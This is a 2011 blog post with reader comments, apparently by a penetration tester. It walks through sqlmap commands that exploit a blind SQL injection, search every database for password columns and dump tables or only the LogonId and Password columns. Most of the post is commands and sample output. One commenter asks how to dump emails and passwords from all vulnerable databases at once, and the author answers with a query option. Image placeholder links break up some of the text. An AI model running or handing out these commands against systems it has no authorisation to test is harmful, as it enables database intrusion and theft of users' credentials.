Friday, December 9, 2011

SQLMap -- Searching Databases for Specific Columns/Data & Extracting from Specific Columns

So assuming we have some sort of SQL Injection in the application (Blind in this case) and we've previously dumped all the available databases (--dbs), we now want to search for columns with 'password' in them.

To search all databases for 'password'
python -u "" --time-sec=1 --search -C 'password'
To search a specific database for 'password'
python -u "" --time-sec=1 --search -D 'MYDATABASE' -C 'password'

**note, that once sqlmap was done with 'MYDATABASE' it checked the rest of the DBs**

[15:28:17] [INFO] fetching columns LIKE 'password' for table 'dbo.mytable' on database 'MYDATABASE'
You'll get asked:
do you want sqlmap to consider provided column(s):

[1] as LIKE column names (default)
[2] as exact column names
> 1
You'll want to give it a 1 first time around, it will probably give you stuff like this:
[15:27:38] [INFO] retrieved: 2
[15:28:22] [INFO] retrieved: Password
[15:29:18] [INFO] retrieved: PrintPasswords
We now know that we want to go back and enumerate/dump the column values from dbo.mytable and database MYDATABASE to see if there is anything good there. Mostly likely there is also a userID or LogonId in there we need to extract as well.
python -u "" --columns -T dbo.mytable -D MYDATABASE --time-sec=1
You could also just do a dump if you want to start grabbing data
python -u "" --dump -T dbo.mytable -D MYDATABASE --time-sec=1
If you just want to pull a certain number of rows, you can also give a --start and --stop switch (--start=1 --stop=10) <--sometimes works, sometimes doesnt. Not sure whats up with that.python -u "" --dump -T dbo.mytable -D MYDATABASE --time-sec=1 --start=1 --stop=10
If you just want to just pull out certain columns you can do something like this (assuming columns LogonId and Password):
python -u "" --dump -C LogonId,Password -T dbo.mytable -D MYDATABASE --time-sec=1 --start=1 --stop=10
I'm sure I just committed some SQLMap sins, so please correct me (like last time) :-)



Rul said...

SQLMap is for the oldies. :-)

Test this and then tell me what you think.

c ya!

..... said...

Is there way to just dump mails and passwords from all vulneable databases at once? Thanks

CG said...if you know what table the data is in you can just craft a command to pull the user/pass without pulling the rest. you can do this via --sql-query=QUERY SQL statement to be executed option

Unknown said...Do i have to load data to the columns or am i missing somthing? Everytime i dump the columns the value is NULL i cant seam to figure this out please some advice would be nice.

CG said...

what does the rowcount say for that table? are you sure thereis data there? The type of injection you are working with also matters and might be contributing to the weird values returned.

does theresults of:
--columns Enumerate DBMS database table columns
--schema Enumerate DBMS schema

return data?

Also this post is super old. no guarantee thisstill works at all (althoughreading over should)